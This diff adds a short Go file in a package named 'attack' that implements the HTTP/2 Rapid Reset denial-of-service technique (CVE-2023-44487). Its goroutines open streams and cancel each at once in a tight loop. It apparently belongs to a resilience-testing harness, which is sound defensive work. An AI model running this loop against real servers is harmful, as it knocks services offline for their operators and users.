@@ -1,0 +1,31 @@
+package attack
+
+import (
+	"context"
+
+	"golang.org/x/net/http2"
+)
+
+// rapidReset opens HTTP/2 streams and cancels each at once, which is to leave
+// work behind that no limit of streams counts (CVE-2023-44487).
+func rapidReset(ctx context.Context, t *trial) {
+	t.swarm(ctx, t.n(20), func(ctx context.Context, i int) bool {
+		c, err := t.connect(ctx, 1<<20)
+		if err != nil {
+			return t.failed(ctx, err)
+		}
+		defer c.close()
+		go func() {
+			for ctx.Err() == nil {
+				id, err := c.open("/events?topic=*&last=100")
+				if err == nil {
+					err = c.write(func() error { return c.framer.WriteRSTStream(id, http2.ErrCodeCancel) })
+				}
+				if err != nil {
+					return // read fails, too
+				}
+			}
+		}()
+		return t.failed(ctx, c.read(ctx))
+	})
+}
